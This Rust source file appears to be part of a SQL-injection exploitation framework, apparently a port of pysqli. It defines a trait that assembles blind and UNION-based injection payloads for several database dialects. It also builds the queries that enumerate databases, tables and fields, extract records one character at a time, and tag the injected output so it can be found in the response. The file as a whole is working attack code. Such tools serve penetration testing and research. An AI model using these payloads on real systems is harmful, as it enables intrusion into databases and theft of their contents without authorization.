pub mod mssql;
pub mod mysql;
pub mod mysql4;
pub mod oracle;

use crate::context::Context;
use crate::error::{Result, SqliError};

/// Dialect-parameterized SQL builder.
///
/// The base implementation defines a generic MySQL-like syntax; each
/// dialect overrides exactly the primitives whose syntax differs.
/// `wrap_bisec`, `get_version`, `get_databases`, `get_tables` and
/// `get_fields` are dialect-mandatory: the base impl returns
/// `SqliError::NotImplemented` for them, mirroring
/// `pysqli.core.forge.SQLForge`'s methods that `raise` a string literal
/// when not overridden.
pub trait SqlForge: Send + Sync {
    fn context(&self) -> &Context;

    /// Wrap a bisection condition so it evaluates to a definite success
    /// when `cdt` holds and a definite failure (typically a
    /// division-by-zero branch) otherwise. Dialect mandatory.
    fn wrap_bisec(&self, _cdt: &str) -> Result<String> {
        Err(SqliError::NotImplemented("wrap_bisec"))
    }

    /// Forge a piece of SQL returning the DBMS version string. Dialect
    /// mandatory.
    fn get_version(&self) -> Result<String> {
        Err(SqliError::NotImplemented("get_version"))
    }

    /// Forge a piece of SQL listing accessible databases. Dialect
    /// mandatory.
    fn get_databases(&self) -> Result<String> {
        Err(SqliError::NotImplemented("get_databases"))
    }

    /// Forge a piece of SQL listing a database's tables. Dialect
    /// mandatory.
    fn get_tables(&self, _db: &str) -> Result<String> {
        Err(SqliError::NotImplemented("get_tables"))
    }

    /// Forge a piece of SQL listing a table's fields. Dialect mandatory.
    fn get_fields(&self, _table: &str, _db: &str) -> Result<String> {
        Err(SqliError::NotImplemented("get_fields"))
    }

    fn wrap_string(&self, s: &str) -> String {
        if self.context().require_string_encoding() {
            let ordinals: Vec<String> = s.chars().map(|c| (c as u32).to_string()).collect();
            format!("CHAR({})", ordinals.join(","))
        } else {
            let q = self.context().string_delimiter();
            format!("{q}{s}{q}")
        }
    }

    fn wrap_field(&self, field: &str) -> String {
        if self.context().in_string() {
            let q = self.context().string_delimiter();
            format!("{q}{field}{q}")
        } else {
            field.to_string()
        }
    }

    /// The central payload assembler: embeds `sql` into the grammatical
    /// slot dictated by method/field_type/truncate. See §4.1 of the spec
    /// for the four-case table this implements.
    fn wrap_sql(&self, sql: &str) -> String {
        let ctx = self.context();
        let q = ctx.string_delimiter();
        let default_wrapped = self.wrap_field(ctx.default_value());

        if ctx.is_blind() {
            if ctx.require_truncate() {
                if ctx.in_string() {
                    format!("{q} OR ({sql}={default_wrapped}) {}", ctx.comment())
                } else {
                    format!(
                        "{} OR ({sql})={default_wrapped} {}",
                        ctx.default_value(),
                        ctx.comment()
                    )
                }
            } else if ctx.in_string() {
                format!("{q} OR ({sql}={default_wrapped}) AND {q}1{q}={q}1")
            } else {
                format!("{} OR ({sql})={default_wrapped} ", ctx.default_value())
            }
        } else if ctx.require_truncate() {
            if ctx.in_string() {
                format!("{q} AND 1=0 UNION {sql} {}", ctx.comment())
            } else {
                format!("{} AND 1=0 UNION {sql} {}", ctx.default_value(), ctx.comment())
            }
        } else if ctx.in_string() {
            format!("{q} AND 1=0 UNION {sql}")
        } else {
            format!("{} AND 1=0 UNION {sql}", ctx.default_value())
        }
    }

    fn string_len(&self, string: &str) -> String {
        format!("LENGTH({string})")
    }

    /// 1-based character position.
    fn get_char(&self, string: &str, pos: u32) -> String {
        format!("SUBSTRING({string},{pos},1)")
    }

    fn concat_str(&self, a: &str, b: &str) -> String {
        format!("CONCAT({a},{b})")
    }

    fn ascii(&self, char_expr: &str) -> String {
        format!("ASCII({char_expr})")
    }

    fn count(&self, records: &str) -> String {
        format!("(SELECT COUNT(*) FROM ({records}) AS T1)")
    }

    /// 0-based row index.
    fn take(&self, records: &str, index: u32) -> String {
        format!("({records} LIMIT {index},1)")
    }

    fn select_all(&self, table: &str, db: &str) -> String {
        format!("(SELECT * FROM {db}.{table})")
    }

    fn get_table_field_record(&self, field: &str, table: &str, db: &str, pos: u32) -> String {
        format!(
            "(SELECT {field} FROM (SELECT * FROM {db}.{table}) as t0 LIMIT {pos},1)"
        )
    }

    fn forge_cdt(&self, val: &str, cmp: i64) -> String {
        format!("({val})<{cmp}")
    }

    fn get_user(&self) -> String {
        "username()".to_string()
    }

    fn get_current_database(&self) -> String {
        "database()".to_string()
    }

    fn get_database_name(&self, id: u32) -> Result<String> {
        Ok(self.take(&self.get_databases()?, id))
    }

    fn get_nb_databases(&self) -> Result<String> {
        Ok(self.count(&self.get_databases()?))
    }

    fn get_nb_tables(&self, db: &str) -> Result<String> {
        Ok(self.count(&self.get_tables(db)?))
    }

    fn get_table_name(&self, id: u32, db: &str) -> Result<String> {
        Ok(self.take(&self.get_tables(db)?, id))
    }

    fn get_nb_fields(&self, table: &str, db: &str) -> Result<String> {
        Ok(self.count(&self.get_fields(table, db)?))
    }

    fn get_field_name(&self, table: &str, id: u32, db: &str) -> Result<String> {
        Ok(self.take(&self.get_fields(table, db)?, id))
    }

    /// Builds the second half of an in-band UNION SELECT: every column
    /// matches `union_fields[i]`'s declared type (a zero literal) except
    /// the target column, which wraps `sql`'s result between two copies
    /// of the random `union_tag` so the caller can grep the payload back
    /// out of the response body.
    fn forge_second_query(&self, sql: &str) -> String {
        let ctx = self.context();
        let fields = ctx.inband_fields();
        let tag = ctx.inband_tag();
        let target = ctx.inband_target();

        let columns: Vec<String> = fields
            .chars()
            .enumerate()
            .map(|(i, kind)| {
                if i as i32 == target {
                    self.concat_str(
                        &self.wrap_string(tag),
                        &self.concat_str(sql, &self.wrap_string(tag)),
                    )
                } else {
                    match kind {
                        's' => self.wrap_string("0"),
                        _ => "0".to_string(),
                    }
                }
            })
            .collect();

        format!("SELECT {}", columns.join(","))
    }
}
